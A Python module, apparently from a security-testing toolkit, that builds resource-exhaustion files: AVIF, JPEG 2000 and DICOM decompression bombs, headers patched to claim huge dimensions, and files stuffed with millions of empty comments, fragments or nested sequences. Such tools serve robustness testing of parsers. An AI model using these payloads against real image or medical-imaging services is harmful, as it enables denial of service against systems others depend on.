"""AVIF, JPEG 2000 and DICOM files that take time or memory."""

import struct

from attacks.files.sizes import filled, side_of
from attacks.formats import (
    DEFLATED,
    JPEG_SYNTAX,
    dicom,
    element,
    encode,
    pixel_elements,
    plain,
)


def avif_frames(size: float) -> bytes:
    """AVIF with a hundred frames."""
    more = [plain("RGB", 64, 64)] * max(1, int(99 * size))
    return encode(plain("RGB", 64, 64), "AVIF", save_all=True, append_images=more, speed=10)


def avif_claim(size: float) -> bytes:
    """AVIF of 64×64 that claims to have 3600×3600 pixels."""
    data = encode(plain("RGB", 64, 64), "AVIF", speed=10)
    side = struct.pack(">II", side_of(3600, size), side_of(3600, size))
    place = data.index(b"ispe") + 8
    return data[:place] + side + data[place + 8 :]


def jpeg_2000_bomb(size: float) -> bytes:
    """JPEG 2000 of 1400×1400 in one colour that claims to have 25 million pixels."""
    data = bytearray(encode(plain("RGB", 1400, 1400), "JPEG2000", no_jp2=True))
    data[8:16] = struct.pack(">II", side_of(5000, size), side_of(5000, size))
    return bytes(data)


def jpeg_2000_tiles(size: float) -> bytes:
    """JPEG 2000 that claims to have tiles of one pixel."""
    data = bytearray(encode(plain("RGB", 250, 250), "JPEG2000", no_jp2=True))
    data[24:32] = struct.pack(">II", 1, 1)
    return bytes(data)


def jpeg_2000_comments(size: float) -> bytes:
    """JPEG 2000 with five million empty comments."""
    data = encode(plain("RGB", 64, 64), "JPEG2000", no_jp2=True)
    place = data.index(b"\xff\x52")
    return data[:place] + filled(b"\xff\x64\0\x02", size) + data[place:]


def dicom_bomb(size: float) -> bytes:
    """DICOM of 25 million pixels of one colour, deflated."""
    side = side_of(5000, size)
    return dicom(pixel_elements((side, side)), bytes(3 * side * side), DEFLATED)


def dicom_deflated_header(size: float) -> bytes:
    """DICOM with 100 MB of zeros, deflated, before its pixels."""
    elements = pixel_elements((10, 10)) | {0x00091001: (b"OB", bytes(int(100_000_000 * size)))}
    return dicom(elements, bytes(300), DEFLATED)


def dicom_claim(size: float) -> bytes:
    """DICOM with 300 bytes of pixels that claims to have 65,000×65,000 pixels."""
    return dicom(pixel_elements((65_000, 65_000)), bytes(300))


def dicom_elements(size: float) -> bytes:
    """DICOM with 2.4 million empty elements before its pixels."""
    whole = dicom(pixel_elements((10, 10)), bytes(300))
    place = whole.index(element(0x00280002, b"US", 3))
    return whole[:place] + filled(element(0x00090010, b"LO", ""), size) + whole[place:]


def dicom_fragments(size: float) -> bytes:
    """DICOM whose JPEG begins with 2.4 million empty fragments."""
    whole = dicom(pixel_elements((10, 10)), [b"\xff\xd8\xff\xd9"], JPEG_SYNTAX)
    place = whole.index(b"\xff\xd8") - 8
    return whole[:place] + filled(struct.pack("<HHI", 0xFFFE, 0xE000, 0), size) + whole[place:]


def dicom_nested(size: float) -> bytes:
    """DICOM with 990,000 sequences, each nested in the one before."""
    whole = dicom(pixel_elements((10, 10)), bytes(300))
    place = whole.index(element(0x00280002, b"US", 3))
    sequence = struct.pack("<HH2s2xI", 9, 0x1001, b"SQ", 0xFFFFFFFF)
    item = struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
    return whole[:place] + filled(sequence + item, size) + whole[place:]
